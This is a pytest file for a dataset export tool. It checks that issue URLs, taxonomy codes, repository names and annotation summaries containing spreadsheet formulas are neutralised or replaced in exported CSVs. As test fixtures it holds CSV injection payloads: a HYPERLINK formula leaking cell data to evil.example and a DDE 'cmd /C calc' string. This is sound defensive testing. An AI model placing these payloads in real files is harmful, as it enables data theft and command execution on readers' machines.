"""Rita the researcher opens every CSV of an export in a spreadsheet: nothing a forge, an
annotator or an imported taxonomy wrote runs as a formula.

Study-format label files are validated instead of altered (they must round-trip): a stored
issue URL that is not the forge URL of that issue is replaced by the canonical one, a label
that is not a code is neutralised, and the manifest lists both. Every other CSV goes through
lib.csvsafe.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from annotator.models import Membership, Project, Role
from dataset.exports import build_zip
from dataset.importer import import_labels
from ingest.models import Issue, Repository
from labeling.models import Annotation
from taxonomy import edits
from taxonomy.models import TaxonomyNode
from tests.dataset.helpers import GITEE, MINDSPEED, read_rows

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture
def mindspeed(taxonomy_version, lead, researcher):
    """The 80 published MindSpeed rows, a lead and a researcher."""
    import_labels("Study", [MINDSPEED])
    project = Project.objects.get(name="Study")
    Membership.objects.create(project=project, user=lead, role=Role.LEAD)
    Membership.objects.create(project=project, user=researcher, role=Role.RESEARCHER)
    return project


def export(project: Project, tmp_path) -> tuple[dict, zipfile.ZipFile]:
    path = tmp_path / "export.zip"
    manifest = build_zip(project, path)
    return manifest, zipfile.ZipFile(path)


def rows_of(zf: zipfile.ZipFile, name: str) -> list[list[str]]:
    text = zf.read(name).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def test_hostile_issue_urls_are_replaced_by_the_issues_own_url(mindspeed, tmp_path):
    published = read_rows(MINDSPEED)
    first, second = published[1][0], published[2][0]
    # A forge answered with a formula as html_url for one issue, a link elsewhere for another.
    Issue.objects.filter(url=first).update(url=HYPERLINK)
    Issue.objects.filter(url=second).update(url="https://evil.example/ascend/MindSpeed/issues/1")

    manifest, zf = export(mindspeed, tmp_path)
    # The study file is exactly the published one: the canonical URLs are the published URLs.
    assert rows_of(zf, "labels/MindSpeed.csv") == published
    assert manifest["replaced_issue_urls"] == [
        {"issue": first, "stored_url": HYPERLINK},
        {"issue": second, "stored_url": "https://evil.example/ascend/MindSpeed/issues/1"},
    ]
    assert all(
        not cell.startswith("=") for row in rows_of(zf, "labels/MindSpeed.csv") for cell in row
    )


def test_a_url_of_another_issue_or_repository_is_not_trusted(mindspeed, tmp_path):
    published = read_rows(MINDSPEED)
    url = published[1][0]
    # A well-formed forge URL, but of another repository: the issue's own URL is written.
    Issue.objects.filter(url=url).update(url=f"{GITEE}IBD6YU".replace("ascend", "attacker"))
    manifest, zf = export(mindspeed, tmp_path)
    assert rows_of(zf, "labels/MindSpeed.csv")[1][0] == url
    assert [r["issue"] for r in manifest["replaced_issue_urls"]] == [url]


def test_a_label_code_that_is_not_a_code_is_neutralised_and_listed(mindspeed, tmp_path):
    # A taxonomy imported from a hostile file could hold such a code; B.2 is MindSpeed's
    # most used theme.
    hostile = "=cmd|' /C calc'!A0"
    TaxonomyNode.objects.filter(version=mindspeed.taxonomy_version, code="B.2").update(code=hostile)
    manifest, zf = export(mindspeed, tmp_path)
    rows = rows_of(zf, "labels/MindSpeed.csv")
    published = read_rows(MINDSPEED)
    expected = [[("'" + hostile) if c == "B.2" else c for c in row] for row in published]
    assert rows == expected
    listed = manifest["neutralised_label_cells"]
    assert len(listed) == sum(row.count("B.2") for row in published[1:])
    assert {entry["value"] for entry in listed} == {hostile}


def test_table_one_and_agreement_csvs_neutralise_names_and_keep_numbers(mindspeed, lead, tmp_path):
    Repository.objects.update(group=HYPERLINK)
    type_b = mindspeed.taxonomy_version.nodes.get(code="B")
    edits.rename(mindspeed, lead, type_b, "@SUM(1+1)*cmd|' /C calc'!A0")
    mindspeed.refresh_from_db()

    _, zf = export(mindspeed, tmp_path)
    table = rows_of(zf, "table_one.csv")
    assert table[1][0] == "'" + HYPERLINK
    assert table[-1][0] == "Sum"
    assert all(cell.isdigit() for cell in table[1][1:-2])  # counts stay numbers
    # Imported labels cannot tell false positives: blank, not 0 (#21).
    assert table[1][-2:] == ["", ""]

    agreement = list(csv.DictReader(io.StringIO(zf.read("agreement.csv").decode())))
    requirement = [r for r in agreement if r["type_code"] == "B"]
    assert {r["type"] for r in requirement} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    theme = next(r for r in requirement if r["level"] == "theme")
    kappa = float(theme["fleiss_kappa"])  # a number, not text
    assert 0 < kappa < 1


def test_a_summary_that_looks_like_a_formula_is_text_in_the_detail_file(
    mindspeed, annotator, tmp_path
):
    Membership.objects.create(project=mindspeed, user=annotator, role=Role.ANNOTATOR)
    sub = mindspeed.taxonomy_version.nodes.get(code="B.2.i")
    issue = Issue.objects.get(url=read_rows(MINDSPEED)[1][0])
    Annotation.objects.create(
        project=mindspeed,
        issue=issue,
        annotator=annotator,
        summary=HYPERLINK,
        issue_type=sub.parent.parent,
        theme=sub.parent,
        sub_theme=sub,
    )
    _, zf = export(mindspeed, tmp_path)
    rows = rows_of(zf, "taxonomy/requirement_expections.csv")
    row = next(r for r in rows if r[1] == sub.name)
    # Details are split on commas by researchers: the summary item itself is neutralised.
    assert row[-1].endswith("'" + HYPERLINK.replace(",", "\uff0c"))
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    # The JSON Lines keep the summary as it was written (JSON is not a spreadsheet).
    record = next(
        json.loads(line)
        for line in zf.read("issues.jsonl").decode().splitlines()
        if json.loads(line)["url"] == issue.url
    )
    assert HYPERLINK in [a["summary"] for a in record["annotations"]]
